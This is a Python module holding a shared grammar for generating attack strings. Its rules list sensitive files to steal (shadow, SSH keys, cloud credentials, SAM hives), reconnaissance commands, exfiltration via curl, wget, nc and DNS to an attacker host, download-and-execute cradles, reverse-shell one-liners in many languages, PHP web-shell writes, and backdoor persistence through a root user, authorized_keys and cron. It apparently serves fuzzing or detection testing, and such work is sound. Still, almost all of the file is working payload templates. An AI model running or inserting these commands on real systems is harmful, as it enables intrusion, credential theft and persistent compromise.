"""Rules that several grammars share: files worth stealing, commands worth running, URLs of the attacker."""

TEXT = r"""
etc_file := *5 passwd ¦ shadow ¦ hosts ¦ *2 hostname ¦ group ¦ issue ¦ motd ¦ crontab ¦ fstab ¦ resolv.conf ¦ os-release
  ¦ ssh/sshd_config ¦ nginx/nginx.conf ¦ apache2/apache2.conf ¦ httpd/conf/httpd.conf ¦ mysql/my.cnf ¦ my.cnf ¦ php.ini
  ¦ php/«=5.6~7.0~7.2~7.4~8.1»/apache2/php.ini ¦ redis/redis.conf ¦ sudoers ¦ gshadow ¦ profile ¦ bash.bashrc ¦ networks
  ¦ services ¦ timezone ¦ ld.so.conf ¦ nsswitch.conf ¦ samba/smb.conf ¦ vsftpd.conf ¦ proftpd.conf ¦ openldap/slapd.conf
  ¦ krb5.conf ¦ ssl/private/server.key ¦ kubernetes/admin.conf ¦ docker/daemon.json ¦ lsb-release
  ¦ apache2/sites-enabled/000-default.conf ¦ nginx/sites-available/default ¦ cron.d/«word» ¦ environment ¦ inittab
  ¦ postgresql/«=9.6~11~13~15»/main/pg_hba.conf ¦ tomcat«=7~8~9»/tomcat-users.xml ¦ exports ¦ snmp/snmpd.conf
  ¦ machine-id
var_file := log/apache2/«=access~error~other_vhosts_access».log ¦ log/nginx/«=access~error».log ¦ log/auth.log
  ¦ log/syslog ¦ log/messages ¦ log/httpd/«=access_log~error_log» ¦ log/mail.log ¦ log/vsftpd.log ¦ www/html/index.php
  ¦ log/secure ¦ www/html/«=config~configuration~wp-config~settings~db~.env~.htaccess~database».php
  ¦ lib/mysql/mysql/user.MYD ¦ mail/root ¦ spool/cron/crontabs/root ¦ www/«coined»/.env
  ¦ run/secrets/kubernetes.io/serviceaccount/token ¦ backups/«=passwd~shadow».bak ¦ lib/php/sessions/sess_«rand20»
  ¦ log/lastlog ¦ log/wtmp ¦ lib/mlocate/mlocate.db ¦ log/«coined»/«word».log
proc_file := self/environ ¦ self/cmdline ¦ version ¦ self/maps ¦ self/status ¦ self/fd/«tens» ¦ cpuinfo ¦ net/tcp
  ¦ net/arp ¦ mounts ¦ «int»/cmdline ¦ sched_debug
  ¦ self/cwd/«=app.py~config.php~index.js~application.properties~.env~main.go» ¦ meminfo ¦ self/root/etc/passwd
  ¦ net/route ¦ self/mountinfo ¦ 1/cgroup ¦ partitions
home_file := root/.«=bash_history~ssh/id_rsa~ssh/authorized_keys~mysql_history~bashrc~profile~aws/credentials~viminfo~netrc»
  ¦ home/«=ubuntu~admin~user~www~git~oracle~tomcat~deploy»/.«=ssh/id_rsa~bash_history~ssh/known_hosts~bashrc~gnupg/secring.gpg~npmrc»
  ¦ opt/«coined»/«=conf~config~etc»/«=server~application~users~settings».«=xml~properties~yml~conf~json»
  ¦ boot/grub/grub.cfg ¦ usr/local/«=apache2~nginx~tomcat»/conf/«=httpd.conf~nginx.conf~tomcat-users.xml~server.xml»
  ¦ usr/local/etc/«coined».conf ¦ srv/www/«coined»/config/database.yml ¦ data/«coined»/«word».db ¦ tmp/«rand» ¦ bin/sh
  ¦ usr/share/«coined»/«word».conf
unix_path := *5 etc/«etc_file» ¦ var/«var_file» ¦ proc/«proc_file» ¦ «home_file»
unix_file := /«unix_path»
win_path := *4 windows/win.ini ¦ *2 boot.ini ¦ windows/system.ini ¦ windows/system32/drivers/etc/hosts ¦ winnt/win.ini
  ¦ windows/system32/config/«=SAM~SYSTEM~SECURITY~RegBack/SAM» ¦ windows/repair/sam ¦ windows/php.ini ¦ autoexec.bat
  ¦ inetpub/wwwroot/web.config ¦ inetpub/logs/LogFiles/W3SVC1/u_ex«dd»«dd»«dd».log ¦ xampp/apache/conf/httpd.conf
  ¦ windows/debug/NetSetup.log ¦ Windows/Microsoft.NET/Framework64/v4.0.30319/Config/machine.config ¦ windows/iis.log
  ¦ Users/Administrator/«=NTUser.dat~Desktop/desktop.ini~.ssh/id_rsa~Documents/passwords.txt» ¦ windows/notepad.exe
  ¦ Program Files/«coined|cap»/«word».«=ini~config~xml~log»
  ¦ ProgramData/«coined|cap»/«=config~settings~users».«=xml~json~db»
  ¦ windows/Panther/«=unattend~Unattend/Unattended».xml ¦ windows/system32/inetsrv/config/applicationHost.config
  ¦ unattend.txt ¦ wamp/bin/php/php.ini ¦ windows/temp/«rand».tmp ¦ windows/WindowsUpdate.log
  ¦ windows/system32/license.rtf ¦ pagefile.sys
app_file := WEB-INF/«=web.xml~web.xml;~applicationContext.xml~classes/application.properties~struts-config.xml~weblogic.xml»
  ¦ META-INF/«=MANIFEST.MF~context.xml~maven/pom.xml» ¦ web.config ¦ Web.config ¦ appsettings.json ¦ wp-config.php
  ¦ config.php ¦ configuration.php ¦ .env ¦ config/database.yml ¦ config/secrets.yml ¦ .git/config ¦ .htpasswd
  ¦ .htaccess ¦ index.php ¦ app/config/parameters.yml ¦ includes/«=config~db~conn~settings».«=php~inc»
  ¦ application.«=properties~yml» ¦ settings.py ¦ conf/«=server.xml~tomcat-users.xml~users.json~config.ini»
  ¦ package.json ¦ composer.json ¦ Dockerfile ¦ db.sqlite3 ¦ storage/logs/laravel.log
  ¦ data/«word».«=db~sqlite~json~xml» ¦ config/config.«=json~ini~js~yaml»

letter := «=a~b~c~d~e~f~g~h~k~m~n~p~q~r~s~t~u~v~w~x~y~z»
unix_bin := *2 id ¦ apt-get ¦ yum ¦ dpkg ¦ rpm ¦ pip ¦ npm ¦ gem ¦ strace ¦ ltrace ¦ tcpdump ¦ traceroute ¦ mtr ¦ rlogin
  ¦ rsh ¦ xterm ¦ screen ¦ tmux ¦ tclsh ¦ gdb ¦ lynx ¦ w3m ¦ aria2c ¦ axel ¦ rev ¦ fold ¦ paste ¦ column ¦ comm ¦ diff
  ¦ cmp ¦ split ¦ shuf ¦ hexdump ¦ hd ¦ uuencode ¦ uudecode ¦ bzip2 ¦ xz ¦ 7z ¦ cpio ¦ ln ¦ dd ¦ install ¦ chattr
  ¦ lsattr ¦ getfacl ¦ pgrep ¦ pkill ¦ top ¦ htop ¦ vmstat ¦ free ¦ uptime ¦ users ¦ finger ¦ groups ¦ logname ¦ tty
  ¦ stty ¦ nologin ¦ chsh ¦ visudo ¦ modprobe ¦ insmod ¦ fdisk ¦ lsblk ¦ blkid ¦ ifdown ¦ nmcli ¦ ethtool ¦ smbclient
  ¦ showmount ¦ snmpwalk ¦ ldapsearch ¦ redis-cli ¦ mongo ¦ kubectl ¦ aws ¦ terraform ¦ ansible ¦ node ¦ java ¦ gradle
  ¦ mvn ¦ go ¦ rustc ¦ cc ¦ ld ¦ as ¦ objdump ¦ readelf ¦ emacs ¦ nano ¦ vim ¦ view ¦ man ¦ apropos ¦ locate ¦ whereis
  ¦ which ¦ command ¦ type ¦ alias ¦ history ¦ eval ¦ exec ¦ source ¦ printenv ¦ export ¦ unset ¦ trap ¦ ulimit ¦ umask
  ¦ whoami ¦ uname ¦ ls ¦ cat ¦ ps ¦ pwd ¦ hostname ¦ ifconfig ¦ ip ¦ netstat ¦ w ¦ who ¦ last ¦ env ¦ set ¦ df ¦ mount
  ¦ ping ¦ nslookup ¦ dig ¦ host ¦ curl ¦ wget ¦ nc ¦ ncat ¦ bash ¦ sh ¦ zsh ¦ ksh ¦ dash ¦ busybox ¦ perl ¦ python
  ¦ python3 ¦ ruby ¦ php ¦ lua ¦ awk ¦ gawk ¦ sed ¦ tail ¦ head ¦ less ¦ more ¦ nl ¦ tac ¦ od ¦ xxd ¦ strings ¦ base64
  ¦ find ¦ grep ¦ egrep ¦ sort ¦ uniq ¦ cut ¦ tee ¦ touch ¦ rm ¦ cp ¦ mv ¦ chmod ¦ chown ¦ mkdir ¦ tar ¦ gzip ¦ zip
  ¦ unzip ¦ ftp ¦ tftp ¦ telnet ¦ ssh ¦ scp ¦ socat ¦ openssl ¦ gcc ¦ make ¦ crontab ¦ at ¦ nohup ¦ xargs ¦ timeout
  ¦ watch ¦ sleep ¦ kill ¦ killall ¦ reboot ¦ shutdown ¦ passwd ¦ useradd ¦ adduser ¦ su ¦ sudo ¦ lsof ¦ ss ¦ arp
  ¦ route ¦ iptables ¦ dmesg ¦ lsmod ¦ systemctl ¦ service ¦ docker ¦ mysql ¦ psql ¦ sqlite3 ¦ rsync ¦ git ¦ vi ¦ ed
  ¦ printf ¦ echo ¦ expr ¦ test ¦ stat ¦ file ¦ md5sum ¦ sha256sum ¦ getent ¦ nmap
bin_dir := *2 /bin/ ¦ /usr/bin/ ¦ /sbin/ ¦ /usr/sbin/ ¦ /usr/local/bin/ ¦ /tmp/
unix_info := *2 id ¦ whoami ¦ uname -a ¦ hostname ¦ pwd ¦ ls -la«unix_dir?» ¦ ls «unix_dir» ¦ ps aux ¦ ps -ef
  ¦ ifconfig -a ¦ ip addr ¦ netstat -«=an~tulpn~antp~rn» ¦ env ¦ printenv ¦ set ¦ cat «unix_file» ¦ cat «unix_file»
  ¦ cat /etc/passwd ¦ df -h ¦ mount ¦ w ¦ uptime ¦ last -n «tens» ¦ getent passwd ¦ dir
  ¦ «=head~tail~tac~nl~more~less~od -c~xxd~strings~sort~rev» «unix_file» ¦ head -n«small» «unix_file»
  ¦ grep «=root~-r password~-i secret~-v nologin» «unix_file» ¦ find / -«=name~iname» "*.«=conf~key~sql~bak~pem»"
  ¦ find / -perm -4000 -type f ¦ sudo -l ¦ crontab -l ¦ lsb_release -a ¦ cat /proc/«proc_file» ¦ arp -a ¦ route -n
  ¦ ss -lntp ¦ awk -F: '{print $1}' /etc/passwd ¦ cut -d: -f1 /etc/passwd ¦ php -v
  ¦ «=python~python3~perl~java~gcc» --version ¦ date ¦ sed -n 1,«tens»p «unix_file» ¦ stat «unix_file»
  ¦ md5sum «unix_file» ¦ dmesg ¦ lsof -i ¦ which «unix_bin» ¦ type «unix_bin»
unix_dir := *2 / ¦ /etc ¦ /tmp ¦ /var/www ¦ /var/www/html ¦ /home ¦ /root ¦ /opt ¦ .. ¦ ../../ ¦ /var/log ¦ /usr/local
  ¦ /proc/self ¦ .
unix_delay := *2 sleep «tens» ¦ sleep «small» ¦ sleep «small».«d» ¦ ping -c «tens» 127.0.0.1
  ¦ ping -i 1 -c «tens» localhost ¦ timeout «tens» cat ¦ usleep «small»000000 ¦ sleep $((«small»+«small»))
  ¦ perl -e 'sleep «tens»' ¦ python -c 'import time;time.sleep(«tens»)'
unix_out := curl «url» ¦ curl -s «url» ¦ curl -sk «url»«=/~?»$(«unix_bin») ¦ curl -d @«unix_file» «url»
  ¦ curl -F f=@«unix_file» «url» ¦ wget «url» ¦ wget -q -O- «url» ¦ wget --post-file=«unix_file» «url»
  ¦ wget -O /tmp/«rand» «url» ¦ nslookup «attacker» ¦ nslookup $(whoami).«zone» ¦ nslookup `«unix_bin»`.«zone»
  ¦ dig «attacker» ¦ dig +short $(hostname).«zone» ¦ host «attacker» ¦ ping -c «small» «attacker»
  ¦ ping «attacker» -c«small» ¦ ping -n «small» `whoami`.«zone» ¦ telnet «attacker» «port» ¦ nc «attacker» «port»
  ¦ getent hosts «attacker» ¦ nc -w «small» «attacker» «port» < «unix_file» ¦ cat «unix_file» | nc «attacker» «port»
  ¦ curl http://«attacker»/`whoami` ¦ openssl s_client -connect «attacker»:«port»
  ¦ curl «url» -H "X: $(«unix_info»|base64)" ¦ lwp-download «url» ¦ fetch «url»
unix_fetch := wget «url»«script» -O /tmp/«$f:rand»; chmod «=777~+x~755» /tmp/«$f»; «=sh ~~bash »/tmp/«$f»
  ¦ curl «url»«script» | «=sh~bash~sudo bash~python~perl»
  ¦ curl -fsSL «url»«script» -o /tmp/«$f:rand» && chmod +x /tmp/«$f» && /tmp/«$f» ¦ wget -qO- «url»«script» | «=sh~bash»
  ¦ cd /tmp; rm -rf «$f:rand»«script»; wget «url»«$f»«script»; sh «$f»«script» «word»
  ¦ cd /tmp || cd /var/run || cd /mnt; wget «url»; chmod 777 *; sh «rand».sh
  ¦ tftp -g -r «$f:rand» «attacker»; chmod 777 «$f»; ./«$f» ¦ busybox wget «url»«$f:rand»«arch» && ./«$f»«arch»
  ¦ ftpget «attacker» «rand» «rand» ¦ bash -c "$(curl -fsSL «url»«script»)" ¦ bash <(curl -s «url»)
  ¦ source <(curl -s «url») ¦ python -c "$(curl «url»«script»)"
script := .sh ¦ /«rand».sh ¦ /i ¦ /«word».sh ¦ .pl ¦ .py ¦ /«ab» ¦ /bins.sh
arch := .arm7 ¦ .mips ¦ .mpsl ¦ .x86 ¦ .x86_64 ¦ .sh4 ¦ .ppc
unix_reverse := bash -i >& /dev/tcp/«attacker»/«port» 0>&1 ¦ bash -c 'bash -i >& /dev/tcp/«attacker»/«port» 0>&1'
  ¦ sh -i >& /dev/udp/«attacker»/«port» 0>&1 ¦ nc -e /bin/«=sh~bash» «attacker» «port» ¦ nc -c bash «attacker» «port»
  ¦ ncat «attacker» «port» -e /bin/bash
  ¦ rm /tmp/«$f:ab»;mkfifo /tmp/«$f»;cat /tmp/«$f»|/bin/sh -i 2>&1|nc «attacker» «port» >/tmp/«$f»
  ¦ mknod /tmp/«$f:abc» p && nc «attacker» «port» 0</tmp/«$f» | /bin/sh 1>/tmp/«$f»
  ¦ exec 5<>/dev/tcp/«attacker»/«port»;cat <&5 | while read line; do $line 2>&5 >&5; done
  ¦ 0<&196;exec 196<>/dev/tcp/«attacker»/«port»; sh <&196 >&196 2>&196
  ¦ python«=~3~2» -c 'import socket,subprocess,os;s=socket.socket();s.connect(("«attacker»",«port»));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
  ¦ perl -e 'use Socket;$i="«attacker»";$p=«port»;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
  ¦ php -r '$s=fsockopen("«attacker»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");'
  ¦ ruby -rsocket -e 'f=TCPSocket.open("«attacker»",«port»).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
  ¦ socat TCP:«attacker»:«port» EXEC:/bin/sh ¦ socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:«attacker»:«port»
  ¦ telnet «attacker» «port» | /bin/sh | telnet «attacker» «dd»«dd»
  ¦ awk 'BEGIN{s="/inet/tcp/0/«attacker»/«port»";while(1){printf "> "|& s;s|& getline c;while((c|& getline)>0)print|& s}}'
  ¦ telnetd -l /bin/sh -p «port» ¦ busybox nc «attacker» «port» -e sh
unix_write := echo «rand» > «web_root»/«rand».«=txt~html~php»
  ¦ echo '<?php «=phpinfo();~system($_GET[0]);~eval($_POST[1]);~echo 1;»?>' > «web_root»/«rand».php ¦ touch /tmp/«rand»
  ¦ echo «b40» | base64 -d > «web_root»/«rand».php ¦ «=id~whoami~ls -la~ps aux» > «web_root»/«rand».txt
  ¦ «unix_info» | tee «web_root»/«rand».html ¦ rm -rf /tmp/«rand» ¦ printf '«rand»' >> /tmp/«rand»
  ¦ cp «unix_file» «web_root»/«rand».txt ¦ ln -s / «web_root»/«rand» ¦ useradd -o -u 0 «rand»
  ¦ echo «rand»:«rand» | chpasswd ¦ echo "ssh-rsa AAAA«b40» «word»" >> /root/.ssh/authorized_keys
  ¦ (crontab -l; echo "* * * * * curl «url»|sh") | crontab -
web_root := /var/www/html ¦ /var/www ¦ /www ¦ /tmp ¦ /usr/share/nginx/html ¦ . ¦ ../webapps/ROOT ¦ /home/httpd
  ¦ /opt/«coined»/www ¦ /web ¦ /htdocs
unix_echo := echo «rand» ¦ echo «hex8» ¦ expr «int» + «int» ¦ expr «int» '*' «int» ¦ echo $((«int»*«int»))
  ¦ printf «rand» ¦ echo «rand» | md5sum ¦ echo -n «rand» | rev ¦ echo «rand»$(expr «small» + «small»)
  ¦ echo «b16» | base64 -d
unix_cmd := *6 «unix_info» ¦ *3 «unix_delay» ¦ *4 «unix_out» ¦ *2 «unix_fetch» ¦ «unix_reverse» ¦ *2 «unix_write»
  ¦ *2 «unix_echo» ¦ «bin_dir»«unix_info» ¦ «unix_bin» ¦ «bin_dir»«unix_bin»
  ¦ «=sh~bash~/bin/sh~/bin/bash~busybox sh» -c «unix_info» ¦ echo «unix_cmd|b64»|base64 -d|«=sh~bash»
  ¦ «=nohup~sudo~timeout 5~nice~setsid» «unix_info»
win_info := *2 whoami ¦ dir«win_dir?» ¦ dir C:\ ¦ ipconfig /all ¦ ipconfig ¦ net user ¦ net localgroup administrators
  ¦ systeminfo ¦ tasklist ¦ ver ¦ type C:\«win_path» ¦ set ¦ hostname ¦ netstat -ano ¦ type %SYSTEMROOT%\win.ini
  ¦ net user «rand» «rand» /add ¦ wmic process list ¦ reg query HKLM\SOFTWARE ¦ schtasks /query ¦ arp -a
  ¦ more C:\«win_path» ¦ whoami /priv ¦ quser
win_dir := «sp»C:\ ¦ «sp»C:\Windows ¦ «sp»C:\inetpub\wwwroot ¦ «sp».. ¦ «sp»%TEMP%
win_run := ping -n «tens» 127.0.0.1 ¦ timeout /t «tens» ¦ ping «attacker» ¦ nslookup «attacker»
  ¦ nslookup %USERNAME%.«zone» ¦ certutil -urlcache -split -f «url» «rand».exe
  ¦ bitsadmin /transfer «rand» «url» C:\Windows\Temp\«rand».exe ¦ cmd /c «win_info» ¦ cmd.exe /c «win_info»
  ¦ C:\Windows\System32\cmd.exe /c «win_info» ¦ mshta «url» ¦ regsvr32 /s /n /u /i:«url» scrobj.dll
  ¦ rundll32 \\«attacker»\s\«rand».dll,0 ¦ start calc.exe ¦ calc.exe ¦ notepad
  ¦ copy C:\«win_path» C:\inetpub\wwwroot\«rand».txt ¦ echo «rand» > C:\inetpub\wwwroot\«rand».txt
  ¦ net use \\«attacker»\share ¦ wscript //e:jscript «rand».txt ¦ curl.exe «url» -o %TEMP%\«rand».exe
  ¦ cscript «rand».vbs
powershell := powershell«=~.exe» -c "«ps_code»" ¦ powershell -nop -w hidden -enc «ps_code|u16b64»
  ¦ powershell -e «ps_code|u16b64» ¦ powershell.exe -ExecutionPolicy Bypass -Command "«ps_code»" ¦ pwsh -c «ps_code»
  ¦ powershell -NoP -NonI «ps_code»
ps_code := IEX (New-Object Net.WebClient).DownloadString('«url»') ¦ iwr «url» -OutFile $env:TEMP\«rand».exe
  ¦ Invoke-WebRequest «url» ¦ Start-Sleep -s «tens» ¦ Start-Sleep «small» ¦ Get-Process ¦ Get-ChildItem C:\ ¦ whoami
  ¦ Get-Content C:\«win_path» ¦ gci env: ¦ $PSVersionTable ¦ Invoke-Expression(«win_info»)
  ¦ $c=New-Object Net.Sockets.TCPClient('«attacker»',«port»);$s=$c.GetStream() ¦ Resolve-DnsName «attacker»
  ¦ Start-Process calc ¦ [System.Net.Dns]::GetHostEntry('«attacker»') ¦ ls ¦ Get-WmiObject Win32_OperatingSystem
win_cmd := *4 «win_info» ¦ *4 «win_run» ¦ *3 «powershell»
any_cmd := *7 «unix_cmd» ¦ *2 «win_cmd»

scheme := *2 http ¦ https
url := *4 «scheme»://«attacker»/ ¦ «scheme»://«attacker» ¦ *2 «scheme»://«attacker»/«rand»
  ¦ «scheme»://«attacker»:«port»/ ¦ «scheme»://«attacker»/«rand».«=txt~html~php~js~jpg~xml»
  ¦ «scheme»://«attacker»/?«ab»=«rand» ¦ «scheme»://«attacker»:«port»/«word»
"""  # noqa: E501
